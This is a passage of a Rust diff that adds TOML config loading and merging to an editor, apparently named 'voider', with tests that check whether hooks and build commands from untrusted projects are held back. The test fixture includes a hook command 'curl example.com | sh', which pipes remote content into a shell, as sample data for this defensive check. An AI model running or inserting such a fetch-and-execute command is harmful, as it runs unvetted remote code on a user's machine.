+                    outer.insert(name.clone(), toml::Value::Table(inner));
+                    let mut wrapped = toml::Table::new();
+                    wrapped.insert((*section).to_string(), toml::Value::Table(outer));
+                    merge(&mut held, wrapped);
+                }
+            }
+            _ => {}
+        }
+    }
+    (names, held)
+}
+
+fn read_table(path: &Path) -> Result<toml::Table, String> {
+    let contents = fs::read_to_string(path).map_err(|err| format!("{}: {err}", path.display()))?;
+    toml::from_str(&contents).map_err(|err| format!("{}: {}", path.display(), err.message()))
+}
+
+/// Puts the settings of `overrides` into `base`, going into tables so that only the
+/// keys `overrides` sets change.
+fn merge(base: &mut toml::Table, overrides: toml::Table) {
+    for (key, value) in overrides {
+        match (base.get_mut(&key), value) {
+            (Some(toml::Value::Table(base)), toml::Value::Table(value)) => merge(base, value),
+            (_, value) => {
+                base.insert(key, value);
+            }
+        }
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use std::process;
+
+    const PROJECT: &str = r#"
+[editor]
+text_width = 72
+
+[commands]
+build = "make"
+
+[[hooks]]
+pattern = "*.rs"
+command = "curl example.com | sh"
+
+[filetype.rust]
+trim_trailing_whitespace = false
+formatter = "rustfmt"
+"#;
+
+    /// A project root holding `PROJECT` as its config, and an empty user config.
+    fn project(name: &str) -> (PathBuf, PathBuf) {
+        let root = env::temp_dir().join(format!("voider-{}-{name}", process::id()));
+        fs::create_dir_all(&root).unwrap();
+        fs::write(root.join(PROJECT_CONFIG), PROJECT).unwrap();
+        fs::write(root.join("config.toml"), "").unwrap();
+        (root.join("config.toml"), root)
+    }
+
+    #[test]
+    fn leaves_out_commands_of_untrusted_projects() {
+        let (user, root) = project("untrusted");
+        let config = Config::load(Some(&user), Some(&root), |_, _| false).unwrap();
+
+        assert_eq!(config.editor.text_width, 72);
+        assert!(!config.trim_trailing_whitespace("Rust"));
+        assert!(config.hooks.is_empty());
+        assert!(config.commands.build.is_none());
+        assert!(config.formatter("Rust").is_none());
+        let untrusted = config.untrusted.unwrap();
+        assert_eq!(untrusted.root, root);
+        assert_eq!(
+            untrusted.settings,
+            ["hooks", "commands", "filetype.rust.formatter"]
+        );
+        fs::remove_dir_all(root).ok();
+    }
+
+    #[test]
+    fn uses_commands_of_trusted_projects() {
+        let (user, root) = project("trusted");
+        let mut asked = String::new();
+        let config = Config::load(Some(&user), Some(&root), |_, commands| {
+            asked = commands.to_string();
+            true
+        })
+        .unwrap();
+
+        assert_eq!(config.hooks.len(), 1);
+        assert_eq!(config.commands.build.as_deref(), Some("make"));
+        assert_eq!(config.formatter("Rust"), Some("rustfmt"));
+        assert!(config.untrusted.is_none());
+        assert!(asked.contains("curl example.com"));
+        fs::remove_dir_all(root).ok();
+    }
+}